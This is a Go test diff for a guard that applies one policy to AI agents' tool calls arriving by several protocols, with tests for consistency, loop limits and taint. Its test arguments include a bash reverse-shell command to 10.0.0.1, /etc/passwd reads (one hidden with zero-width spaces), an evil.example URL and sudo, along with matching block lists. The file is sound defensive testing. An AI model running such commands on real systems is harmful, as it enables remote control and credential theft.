@@ -4,22 +4,33 @@ import (
 	"context"
 	"fmt"
 	"math/rand/v2"
+	"net/http"
+	"net/http/httptest"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
+	"reeve.example/reeve/a2a"
 	"reeve.example/reeve/a2g"
 	"reeve.example/reeve/act"
 	"reeve.example/reeve/aos"
+	"reeve.example/reeve/engine"
+	"reeve.example/reeve/executor"
+	"reeve.example/reeve/flow"
 	"reeve.example/reeve/guard"
-	"reeve.example/reeve/internal/content"
+	"reeve.example/reeve/hook"
+	"reeve.example/reeve/identity"
+	"reeve.example/reeve/internal/jsonrpc"
 	"reeve.example/reeve/internal/rawjson"
 	"reeve.example/reeve/ledger"
 	"reeve.example/reeve/mcp/proxy"
 	"reeve.example/reeve/policy"
 	"reeve.example/reeve/store/sqlite"
+	"reeve.example/reeve/task"
 
+	"github.com/go-json-experiment/json/jsontext"
 	"github.com/google/go-cmp/cmp"
 )
 
@@ -28,15 +39,19 @@ type outcome struct {
 	Effect act.Effect
 	Codes  []string
 	Digest act.Digest
+	Edits  []string // what is put in, whatever it is called by that door
 }
 
-// doors are guards of one policy, each with a session of its own, that decide about
-// calls as they come by each door.
+// doors are the ways by which a call comes before one guard, each with a session of
+// its own, under one policy.
 type doors struct {
 	*testing.T
-	guard *guard.Guard
-	last  *outcome
-	n     int
+	guard  *guard.Guard
+	judged chan outcome // of calls, as they are decided
+	n      int
+	trails string
+	rpc    http.Handler // A2G, and tasks of an engine by flow and by A2A
+	mcp    *proxy.Remote
 }
 
 func newDoors(t *testing.T, text string, score func(context.Context, string, []byte) (float64, []string, bool)) *doors {
@@ -50,68 +65,249 @@ func newDoors(t *testing.T, text string, score func(context.Context, string, []b
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { store.Close() })
-	log, err := ledger.Open(t.Context(), ledger.Config{Store: store, Origin: "test", Seed: make([]byte, 32)})
+	var tasks *engine.Engine
+	log, err := ledger.Open(t.Context(), ledger.Config{
+		Store: store, Origin: "test", Seed: make([]byte, 32), OnTasks: func(w *task.Writes) { tasks.Changed(w) },
+	})
 	if err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { log.Close() })
-	d := &doors{T: t}
+	d := &doors{T: t, judged: make(chan outcome, 1000), trails: t.TempDir()}
 	d.guard, err = guard.New(t.Context(), guard.Config{
 		Log: log, Store: store, Policy: set, Score: score,
 		Observe: func(a *act.Action, decision *act.Decision, _ time.Duration) {
-			o := &outcome{Effect: decision.Effect, Digest: a.Digest}
+			if !a.IsCall() {
+				return
+			}
+			o := outcome{Effect: decision.Effect, Digest: a.Digest}
 			for _, r := range decision.Reasons {
 				o.Codes = append(o.Codes, r.Code)
 			}
+			for _, e := range decision.Edits {
+				o.Edits = append(o.Edits, string(e.Value))
+			}
 			slices.Sort(o.Codes)
-			d.last = o
+			slices.Sort(o.Edits)
+			d.judged <- o
 		},
 	})
 	if err != nil {
 		t.Fatal(err)
 	}
+	executors := &executor.Registry{}
+	for _, tool := range toolNames {
+		if err := executors.Register(givesNothing(tool)); err != nil && isExecutor(tool) {
+			t.Fatal(err)
+		}
+	}
+	tasks = engine.New(engine.Config{
+		Guard: d.guard, Store: store, Executors: executors, Node: log.Node(),
+		Dispatcher: &engine.Memory{Ready: func(ctx context.Context, id string, limit int) ([]task.Row, error) {
+			return store.TaskRows(ctx, task.RowQuery{Phase: task.Ready, Executor: id, Limit: limit})
+		}},
+	})
+	open := func() bool { return true }
+	messages := a2a.NewServer(a2a.Config{Guard: d.guard, Engine: tasks, Executors: executors, Open: open, Alone: true, Node: log.Node()})
+	work := flow.NewServer(flow.Config{Engine: tasks, Executors: executors, Open: open})
+	intents := a2g.NewServer(a2g.Config{Guard: d.guard})
+	d.rpc = &jsonrpc.Handler{Namespaces: append(messages.Namespaces(), work.Namespace(), intents.Namespace())}
+	ctx, stop := context.WithCancel(t.Context())
+	var running sync.WaitGroup
+	running.Go(func() { tasks.Run(ctx) })
+	running.Go(func() { messages.Run(ctx) })
+	serve := proxy.Serve(d.guard)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		serve.ServeHTTP(w, r.WithContext(identity.NewContext(r.Context(), act.Anonymous, identity.Agent)))
+	}))
+	d.mcp = &proxy.Remote{URL: server.URL}
+	t.Cleanup(func() {
+		messages.Close()
+		work.Close()
+		server.Close()
+		stop()
+		running.Wait()
+	})
 	return d
 }
 
-// names are the doors by which a tool is called.
-var doorNames = []string{"aos", "aos mcp", "proxy", "a2g", "task"}
+// givesNothing is an executor by its id.
+type givesNothing string
+
+func (id givesNothing) Describe() executor.Description {
+	return executor.Description{
+		ID: string(id), Name: string(id), Description: "It gives nothing.", InputSchema: []byte(`{"type":"object"}`),
+		Holds: []string{"filesystem_scope", "blocked_domains", "blocked_patterns"},
+	}
+}
+
+func (id givesNothing) Execute(context.Context, *executor.Job) (jsontext.Value, error) {
+	return jsontext.Value(`{"text":"done"}`), nil
+}
+
+// isExecutor reports whether a tool's name can be that of an executor.
+func isExecutor(tool string) bool {
+	return !strings.ContainsFunc(tool, func(c rune) bool { return c > 'z' || c == ' ' })
+}
+
+// toolNames are those of the tools that are called.
+var toolNames = []string{"deploy_app", "run_shell", "write_file", "http_request", "Ｗｉｐｅ", "read file"}
+
+// doorNames are the doors by which a tool is called.
+var doorNames = []string{"aos", "aos mcp", "proxy", "proxy http", "a2g", "hook", "hook mcp", "flow", "a2a"}
+
+// takes reports whether a tool can be called by a door under its own name: tasks are
+// for executors, and a hook calls the tools that all coding agents have by one name.
+func takes(door, tool string) bool {
+	switch door {
+	case "flow", "a2a":
+		return isExecutor(tool)
+	case "hook":
+		return tool != "read file" && tool != "write_file"
+	}
+	return true
+}
+
+// ofTasks reports whether calls by a door are the tasks of a workflow: planned, each
+// tree with a memory of its own.
+func ofTasks(door string) bool { return door == "flow" || door == "a2a" }
 
 // call makes a call by a door, with ids that were not used before.
 func (d *doors) call(door, tool, arguments string) outcome {
 	d.Helper()
+	return d.calls(door, tool, arguments)[0]
+}
+
+// calls makes calls of one tool, one after the other. Tasks are one tree, in which
+// each waits for the one before.
+func (d *doors) calls(door, tool string, arguments ...string) (list []outcome) {
+	d.Helper()
+	if ofTasks(door) {
+		var tasks []string
+		for i, one := range arguments {
+			after := ""
+			if i > 0 {
+				after = fmt.Sprintf(`,"parent_id":"t0","dependencies":[{"id":"t%d","required":true}]`, i-1)
+			}
+			tasks = append(tasks, fmt.Sprintf(`{"id":"t%d","name":"work"%s,"schemas":{"method":%q},"inputs":%s}`, i, after, tool, one))
+		}
+		d.begin(door, strings.Join(tasks, ","))
+	}
+	for _, one := range arguments {
+		if !ofTasks(door) {
+			d.ask(door, tool, one)
+		}
+		select {
+		case o := <-d.judged:
+			list = append(list, o)
+		case <-time.After(30 * time.Second):
+			d.Fatalf("%s %s by %s is not judged", tool, one, door)
+		}
+	}
+	return list
+}
+
+// begin has an engine execute tasks.
+func (d *doors) begin(door, tasks string) {
+	d.Helper()
 	d.n++
-	d.last = nil
-	frame := fmt.Sprintf(`"context":{"agent":{"name":"A","id":"did:aeon:a","instructions":"","version":"1","provider":{"name":"p","url":"u"}},
+	body := fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tasks.execute","params":{"tasks":[%s]}}`, d.n, tasks)
+	if door == "a2a" {
+		body = fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"SendMessage","params":{"message":{"messageId":"m%d","role":"ROLE_USER","parts":[{"data":{"tasks":[%s]}}]},"configuration":{"returnImmediately":true}}}`, d.n, d.n, tasks)
+	}
+	if status, answer := ask(d.rpc, act.Anonymous, identity.Agent, "POST", "/", body); status != 200 || strings.Contains(answer, `"error":{`) {
+		d.Fatalf("%d %s", status, answer)
+	}
+}
+
+// ask puts one call before the guard as a door reads it.
+func (d *doors) ask(door, tool, arguments string) {
+	d.Helper()
+	d.n++
+	d.decide(door, map[string]func() string{
+		"aos": func() string {
+			doc, _ := rawjson.Parse([]byte(arguments))
+			var inputs []string
+			for name, v := range doc.Root().Members() {
+				inputs = append(inputs, fmt.Sprintf(`{"name":%s,"value":%s}`, rawjson.Quote(name), v.Raw()))
+			}
+			return fmt.Sprintf(`"method":"steps/toolCallRequest","params":{%s,"toolCallRequest":{"executionId":"x-%d","toolId":%q,"inputs":[%s]}}`, d.frame(door), d.n, tool, strings.Join(inputs, ","))
+		},
+		"mcp": func() string {
+			return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":%q,"arguments":%s}}`, d.n, tool, arguments)
+		},
+		"a2g": func() string {
+			return fmt.Sprintf(`"method":"a2g/intent","params":{"agent_did":"did:aeon:a","intent_id":"i-%d","tool":%q,"arguments":%s,"context":{"session_id":"s"}}`, d.n, tool, arguments)
+		},
+		"hook": func() string {
+			if door == "hook mcp" {
+				tool = "mcp__srv__" + tool
+			}
+			return fmt.Sprintf(`{"session_id":"s","cwd":"/w","hook_event_name":"PreToolUse","tool_use_id":"u-%d","tool_name":%q,"tool_input":%s}`, d.n, tool, arguments)
+		},
+	}, &proxy.Question{})
+}
+
+func (d *doors) frame(door string) string {
+	return fmt.Sprintf(`"context":{"agent":{"name":"A","id":"did:aeon:a","instructions":"","version":"1","provider":{"name":"p","url":"u"}},
 		"session":{"id":"s-%s"},"turnId":"t","stepId":"st-%d","timestamp":%q}`, door, d.n, time.Now().UTC().Format(time.RFC3339))
-	message := fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":%q,"arguments":%s}}`, d.n, tool, arguments)
+}
+
+// decide puts a message before the guard by a door: forms are how each kind of door
+// writes it, and question what a proxy says beside it.
+func (d *doors) decide(door string, forms map[string]func() string, question *proxy.Question) {
+	d.Helper()
 	var a *act.Action
 	var err error
+	request := func(rest string) []byte {
+		return fmt.Appendf(nil, `{"jsonrpc":"2.0","id":%q,%s}`, fmt.Sprint(d.n), rest)
+	}
 	switch door {
 	case "aos":
-		doc, _ := rawjson.Parse([]byte(arguments))
-		var inputs []string
-		for name, v := range doc.Root().Members() {
-			inputs = append(inputs, fmt.Sprintf(`{"name":%s,"value":%s}`, rawjson.Quote(name), v.Raw()))
-		}
-		a, err = aos.ActionOf(fmt.Appendf(nil, `{"jsonrpc":"2.0","id":1,"method":"steps/toolCallRequest","params":{%s,"toolCallRequest":{"executionId":"x-%d","toolId":%q,"inputs":[%s]}}}`,
-			frame, d.n, tool, strings.Join(inputs, ",")))
+		a, err = aos.ActionOf(request(forms["aos"]()))
 	case "aos mcp":
-		a, err = aos.ActionOf(fmt.Appendf(nil, `{"jsonrpc":"2.0","id":1,"method":"protocols/MCP","params":{%s,"message":%s}}`, frame, message))
-	case "proxy":
-		local := &proxy.Local{Guard: d.guard, Principal: act.Anonymous}
-		if _, err := local.Judge(d.Context(), &proxy.Question{Message: proxy.Text(message), Server: "srv", Session: "s-proxy", ID: fmt.Sprint(d.n)}); err != nil {
+		a, err = aos.ActionOf(request(fmt.Sprintf(`"method":"protocols/MCP","params":{%s,"message":%s}`, d.frame(door), forms["mcp"]())))
+	case "proxy", "proxy http":
+		question.Message, question.Server, question.Session = proxy.Text(forms["mcp"]()), "srv", "s-"+door
+		if question.Answers == "" {
+			question.ID = fmt.Sprint(d.n)
+		}
+		var guardian proxy.Guardian = d.mcp
+		if door == "proxy" {
+			guardian = &proxy.Local{Guard: d.guard, Principal: act.Anonymous}
+		}
+		if _, err := guardian.Judge(d.Context(), question); err != nil {
 			d.Fatal(err)
 		}
-		return *d.last
+		return
 	case "a2g":
-		a, err = a2g.ActionOf(fmt.Appendf(nil, `{"jsonrpc":"2.0","id":"1","method":"a2g/intent","params":{"agent_did":"did:aeon:a","intent_id":"i-%d","tool":%q,"arguments":%s,"context":{"session_id":"s"}}}`, d.n, tool, arguments))
-	case "task": // as engine.startAction reads it
-		doc, _ := rawjson.Parse([]byte(arguments))
-		var texts content.Set
-		a = &act.Action{Door: "flow", Kind: act.TaskStart, Resource: tool, Session: "s-task", Step: fmt.Sprint(d.n), ID: fmt.Sprint(d.n), Body: []byte(arguments),
-			Holds: []string{"filesystem_scope", "blocked_domains", "blocked_patterns"}} // by its executor
-		a.Arguments = texts.AddArguments(doc.Root(), "")
-		texts.Complete(a, content.AppendArguments(nil, doc.Root()))
+		if status, answer := ask(d.rpc, act.Anonymous, identity.Agent, "POST", "/", string(request(forms["a2g"]()))); status != 200 || strings.Contains(answer, `"error":{`) && !strings.Contains(answer, `"verdict":"DENIED"`) {
+			d.Fatalf("%d %s", status, answer)
+		}
+		return
+	case "hook", "hook mcp":
+		event, err := hook.Read("claude-code", "", []byte(forms["hook"]()))
+		if err != nil {
+			d.Fatal(err)
+		}
+		event.Session += door
+		trail, err := hook.OpenTrail(d.trails, event)
+		if err != nil {
+			d.Fatal(err)
+		}
+		_, err = hook.Judge(d.Context(), event, trail, func(ctx context.Context, request []byte) (*hook.Decision, error) {
+			a, err := aos.ActionOf(request)
+			if err != nil {
+				return nil, err
+			}
+			a.Principal = act.Anonymous
+			decision, modified, err := d.guard.Decide(ctx, a)
+			return hook.DecisionOf(&decision, modified), err
+		})
+		if err != nil {
+			d.Fatal(err)
+		}
+		return
 	}
 	if err != nil {
 		d.Fatal(err)
@@ -120,7 +316,6 @@ func (d *doors) call(door, tool, arguments string) outcome {
 	if _, _, err := d.guard.Decide(d.Context(), a); err != nil {
 		d.Fatal(err)
 	}
-	return *d.last
 }
 
 // TestDoors: one call is one act under one law, by whichever door it comes: generated
@@ -128,10 +323,10 @@ func (d *doors) call(door, tool, arguments string) outcome {
 func TestDoors(t *testing.T) {
 	r := rand.New(rand.NewPCG(1, 2))
 	pick := func(list ...string) string { return list[r.IntN(len(list))] }
-	tools := []string{"deploy_app", "run_shell", "write_file", "http_request", "Ｗｉｐｅ", "read file"}
+	edited, calls := 0, 0
 	for range 12 {
 		var b strings.Builder
-		fmt.Fprintf(&b, "version: 1\ndefault: %s\nrules:\n  - {name: base, on: trigger, effect: deny}\n", pick("allow", "deny", "escalate"))
+		fmt.Fprintf(&b, "version: 1\ndefault: %s\nrules:\n  - {name: base, on: trigger, effect: deny}\n  - {name: talk, on: a2a.receive, effect: allow}\n", pick("allow", "deny", "escalate"))
 		for i := range 1 + r.IntN(4) {
 			fmt.Fprintf(&b, "  - {name: r%d, on: call, effect: %s, code: c%d", i, pick("allow", "deny", "escalate"), i)
 			switch r.IntN(5) {
@@ -147,6 +342,12 @@ func TestDoors(t *testing.T) {
 				b.WriteString(", check: [model.absent, tool.confusable]")
 			}
 			b.WriteString("}\n")
+			if r.IntN(4) == 0 {
+				fmt.Fprintf(&b, "  - {name: m%d, on: call, detect: [pii.card], effect: modify, modify: redact, code: masked}\n", i)
+			}
+			if r.IntN(4) == 0 {
+				fmt.Fprintf(&b, "  - {name: p%d, on: call, tools: [write_file, deploy_app], when: 'has(args.path)', effect: modify, modify: {replace: {argument: path, with: /tmp/safe}}, code: moved}\n", i)
+			}
 		}
 		if r.IntN(2) == 0 {
 			b.WriteString("manifests: {write_file: {filesystem_scope: [/tmp/**]}, http_request: {blocked_domains: [evil.example]}, run_shell: {blocked_patterns: [sudo]}}\n")
@@ -158,19 +359,25 @@ func TestDoors(t *testing.T) {
 		}
 		d := newDoors(t, text, score)
 		for range 10 {
-			tool := tools[r.IntN(len(tools))]
+			tool := pick(toolNames...)
 			arguments := pick(`{}`, `{"command":"ls"}`, `{"command":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}`, `{"path":"/etc/passwd","n":1.50}`,
-				`{"path":"/tmp/x","content":"card 4000 0000 0000 0002"}`, `{"url":"https://evil.example/x"}`, `{"command":"sudo id","deep":{"a":[1,{"b":"\u0061"}]}}`)
+				`{"path":"/tmp/x","content":"card 4000 0000 0000 0002"}`, `{"Path":"/etc/passwd"}`, `{"pa\u200bth":"/etc/pass\u200bwd"}`,
+				`{"note":{"to":["a card","4000 0000 0000 0002"]},"path":["/etc/passwd"],"big":123456789012345678901234567890,"e":1e400}`, `{"url":"https://evil.example/x"}`, `{"command":"sudo id","deep":{"a":[1,{"b":"\u0061"}]}}`)
 			want := d.call(doorNames[0], tool, arguments)
+			edited += len(want.Edits)
+			calls++
 			for _, door := range doorNames[1:] {
-				if door == "task" && slices.Contains(want.Codes, policy.CodeUnenforced) {
-					continue // what nobody holds elsewhere, its executor does
+				if !takes(door, tool) || (ofTasks(door) || door == "a2g") && slices.Contains(want.Codes, policy.CodeUnenforced) {
+					continue // what nobody holds elsewhere, a task's executor does, and who asks by A2G is told
 				}
 				if diff := cmp.Diff(want, d.call(door, tool, arguments)); diff != "" {
 					t.Errorf("%s %s by %s (-aos +it):\n%s\n%s", tool, arguments, door, diff, text)
 				}
 			}
 		}
+	}
+	if edited == 0 {
+		t.Errorf("none of %d calls is changed", calls)
 	}
 }
 
@@ -179,25 +386,73 @@ func TestDoors(t *testing.T) {
 func TestDoorsRemember(t *testing.T) {
 	for _, door := range doorNames {
 		d := newDoors(t, "version: 1\ndefault: allow\nrules: [{name: loop, check: call.loop, effect: deny}, {name: many, on: call, when: 'session.calls >= 15', effect: deny, code: many}]\n", nil)
-		loop, many := 0, 0
-		for i := range 20 {
-			o := d.call(door, "deploy_app", `{"x":1}`)
-			if slices.Contains(o.Codes, "call.loop") && loop == 0 {
-				loop = i + 1
+		first := func(code, format string) int {
+			var arguments []string
+			for i := range 20 {
+				one := format
+				if strings.Contains(format, "%") {
+					one = fmt.Sprintf(format, 100+i)
+				}
+				arguments = append(arguments, one)
 			}
-		}
-		for i := range 20 {
-			o := d.call(door, "deploy_app", fmt.Sprintf(`{"x":%d}`, 100+i))
-			if slices.Contains(o.Codes, "many") && many == 0 {
-				many = i + 1
+			if ofTasks(door) { // what is denied ends a tree
+				arguments = arguments[:16]
 			}
+			return 1 + slices.IndexFunc(d.calls(door, "deploy_app", arguments...), func(o outcome) bool { return slices.Contains(o.Codes, code) })
 		}
+		loop, many := first("call.loop", `{"x":1}`), first("many", `{"x":%d}`)
 		wantLoop, wantMany := 10, 7 // after nine that were let through
-		if door == "task" {
-			wantLoop, wantMany = 0, 1
+		if ofTasks(door) {
+			wantLoop, wantMany = 0, 16 // in a tree of their own
 		}
 		if loop != wantLoop || many != wantMany {
 			t.Errorf("%s: a loop at call %d, want %d; too many at %d, want %d", door, loop, wantLoop, many, wantMany)
 		}
 	}
+}
+
+// TestDoorsTaint: what a tool gave taints the turn by every door, and the next call
+// is judged with it.
+func TestDoorsTaint(t *testing.T) {
+	for _, door := range doorNames {
+		d := newDoors(t, "version: 1\ndefault: allow\nrules: [{name: tainted, on: call, when: session.tainted, effect: deny, code: tainted}, {name: outside, check: taint.consequential, effect: escalate}]\n", nil)
+		var got []outcome
+		if ofTasks(door) {
+			got = d.calls(door, "deploy_app", `{"x":1}`, `{"x":2}`)
+		} else {
+			got = append(got, d.call(door, "deploy_app", `{"x":1}`))
+			d.result(door, "Somebody outside wrote this.")
+			got = append(got, d.call(door, "deploy_app", `{"x":2}`))
+		}
+		for i, want := range []bool{false, true} {
+			if tainted := slices.Contains(got[i].Codes, "tainted"); tainted != want || tainted != slices.Contains(got[i].Codes, "taint.consequential") {
+				t.Errorf("%s: call %d has %v", door, i+1, got[i])
+			}
+		}
+	}
+}
+
+// result has the newest call by a door give a text.
+func (d *doors) result(door, text string) {
+	d.Helper()
+	called := d.n
+	d.n++
+	d.decide(door, map[string]func() string{
+		"aos": func() string {
+			return fmt.Sprintf(`"method":"steps/toolCallResult","params":{%s,"executionId":"x-%d","result":{"outputs":[{"kind":"text","text":%q}],"isError":false}}`, d.frame(door), called, text)
+		},
+		"mcp": func() string {
+			return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"result":{"content":[{"type":"text","text":%q}]}}`, called, text)
+		},
+		"a2g": func() string {
+			return fmt.Sprintf(`"method":"a2g/report","params":{"agent_did":"did:aeon:a","intent_id":"i-%d","status":"SUCCESS","result":{"text":%q},"metrics":{"duration_ms":1}}`, called, text)
+		},
+		"hook": func() string {
+			tool := "deploy_app"
+			if door == "hook mcp" {
+				tool = "mcp__srv__" + tool
+			}
+			return fmt.Sprintf(`{"session_id":"s","cwd":"/w","hook_event_name":"PostToolUse","tool_use_id":"u-%d","tool_name":%q,"tool_input":{"x":1},"tool_response":%q}`, called, tool, text)
+		},
+	}, &proxy.Question{From: act.FromServer, Answers: fmt.Sprint(called), Method: "tools/call", Resource: "deploy_app"})
 }
